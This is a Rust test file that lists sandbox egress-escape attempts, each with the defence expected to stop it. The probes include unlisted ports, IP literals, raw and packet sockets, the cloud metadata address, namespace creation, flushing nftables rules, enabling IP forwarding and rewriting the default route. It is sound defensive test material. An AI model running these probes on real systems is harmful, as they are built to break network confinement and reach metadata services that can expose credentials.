//! Networks: other ports, protocols, addresses, namespaces.

use egress::defence::Defence::*;

use crate::attempt::{Attempt, ByEngine, attempt};
use crate::attempts::{DATAGRAM, PEER, PLAIN, SECURE};

/// All of them.
pub const ATTEMPTS: &[Attempt] = &[
    attempt(
        "tcp-port-not-listed",
        "s = dial('open.example.org', 8080); demand(say(s, get('open.example.org', '/', T)), b'world')",
        PLAIN,
    )
    .against(&[Rules]),
    attempt(
        "tcp-to-a-literal",
        "s = dial('198.51.100.1', 80); demand(say(s, get('open.example.org', '/', T)), b'world')",
        PLAIN,
    )
    .against(&[Rules]),
    attempt("tcp-to-a-foreign-literal", "s = dial('192.0.2.7', 443); say(s, T.encode())", SECURE).against(&[Rules]),
    attempt(
        "udp-to-a-port-not-listed",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(T.encode(), ('open.example.org', 443)); demand(s.recv(99), T.encode())",
        DATAGRAM,
    )
    .against(&[UdpPorts, Rules])
    .unaudited(),
    attempt(
        "udp-to-a-literal",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(T.encode(), ('198.51.100.1', 5353)); demand(s.recv(99), T.encode())",
        DATAGRAM,
    )
    .against_engine(ByEngine::Networks)
    .unaudited(),
    attempt(
        "udp-to-a-name-without-a-rule-for-it",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(T.encode(), ('api.example.org', 5353)); demand(s.recv(99), T.encode())",
        DATAGRAM,
    )
    .against(&[Rules]),
    attempt(
        "quic",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(b'\\xc0\\0\\0\\0\\1' + T.encode() + bytes(1200), ('198.51.100.1', 443)); s.recv(99)",
        DATAGRAM,
    )
    .against_engine(ByEngine::Networks)
    .unaudited(),
    attempt(
        "icmp",
        "try: s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
except PermissionError: s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.sendto(b'\\x08\\0\\0\\0\\0\\1\\0\\1' + T.encode(), ('192.0.2.7', 0))",
        DATAGRAM,
    )
    .against_engine(ByEngine::Confinement)
    .against(&[Filter])
    .unaudited(),
    attempt(
        "raw-socket",
        "s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253); s.sendto(T.encode(), ('192.0.2.7', 0))",
        DATAGRAM,
    )
    .against_engine(ByEngine::Confinement)
    .against(&[Filter])
    .unaudited(),
    attempt(
        "packet-socket",
        "s = socket.socket(17, socket.SOCK_DGRAM, 0x0300); s.sendto(T.encode(), ('lo', 0x0800))",
        DATAGRAM,
    )
    .against_engine(ByEngine::Confinement)
    .unaudited(),
    attempt(
        "vsock",
        "s = socket.socket(40, socket.SOCK_STREAM); s.settimeout(1); s.connect((2, 1024)); s.send(T.encode())",
        PLAIN,
    )
    .against_engine(ByEngine::Fixed("this machine has none"))
    .unaudited(),
    attempt(
        "ipv6-literal",
        "s = dial('2001:db8::7', 80); demand(say(s, get('open.example.org', '/', T)), b'world')",
        PLAIN,
    )
    .against(&[Rules]),
    attempt(
        "v4-mapped-literal",
        "s = dial('::ffff:198.51.100.1', 80); demand(say(s, get('open.example.org', '/', T)), b'world')",
        PLAIN,
    )
    .against(&[Rules]),
    attempt(
        "metadata-literal",
        "s = dial('169.254.169.254', 80); demand(say(s, get('169.254.169.254', '/', T)), b'world')",
        PLAIN,
    )
    .against(&[Rules, Addresses]),
    attempt("host-address", "demand(say(dial('198.51.100.2', 7777), T.encode() + b'\\n'), T.encode())", PLAIN)
        .against(&[Rules]),
    attempt(
        "gateway-of-an-internal-network",
        "demand(say(dial(gateway(), 7777), T.encode() + b'\\n'), T.encode())",
        PEER,
    )
    .against(&[Redirect, Filter])
    .stays_inside()
    .unaudited(),
    attempt(
        "datagrams-to-the-gateway",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(T.encode(), (gateway(), 7777))",
        PEER,
    )
    .against(&[Filter])
    .stays_inside()
    .unaudited(),
    attempt(
        "all-nodes-of-an-internal-network",
        "s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); until = time.monotonic() + 1.5
while True:
    try: s.sendto(T.encode(), ('ff02::1', 7777, 0, socket.if_nametoindex('eth0'))); break
    except OSError as error:
        # Its own address may be too young to be used.
        if error.errno != errno.EADDRNOTAVAIL or time.monotonic() > until: raise
        time.sleep(0.1)",
        PEER,
    )
    .against(&[Ipv6])
    .stays_inside()
    .unaudited(),
    attempt("a-sandbox-on-no-common-network", "s = dial('neighbour', 7000); say(s, get('neighbour', '/' + T))", PEER)
        .against_engine(ByEngine::Networks)
        .stays_inside()
        .unaudited(),
    attempt(
        "abstract-socket-of-the-host",
        "s = socket.socket(socket.AF_UNIX); s.connect('\\0sbx-escape-test'); s.sendall(T.encode())",
        PLAIN,
    )
    .against_engine(ByEngine::Namespace)
    .unaudited(),
    attempt(
        "a-new-user-namespace-with-a-network-of-its-own",
        "libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x40000000): raise OSError('no new namespaces')
s = dial('192.0.2.7', 80); say(s, T.encode())",
        PLAIN,
    )
    .against_engine(ByEngine::Fixed("a new network begins empty, whoever makes it"))
    .unaudited(),
    attempt(
        "flushing-the-rules",
        "import subprocess
subprocess.run(['/usr/sbin/nft', 'flush', 'ruleset'], check=True)
demand(say(dial(gateway(), 7777), T.encode() + b'\\n'), T.encode())",
        PLAIN,
    )
    .against_engine(ByEngine::Confinement)
    .unaudited(),
    attempt("sysctl", "writable('/proc/sys'); open('/proc/sys/net/ipv4/ip_forward', 'w').write('1')", PLAIN)
        .against_engine(ByEngine::Confinement)
        .unaudited(),
    attempt(
        "adding-a-route",
        "import subprocess
subprocess.run(['ip', 'route', 'replace', 'default', 'via', '198.51.100.1', 'onlink', 'dev', 'lo'], check=True)",
        PLAIN,
    )
    .against_engine(ByEngine::Confinement)
    .unaudited(),
];
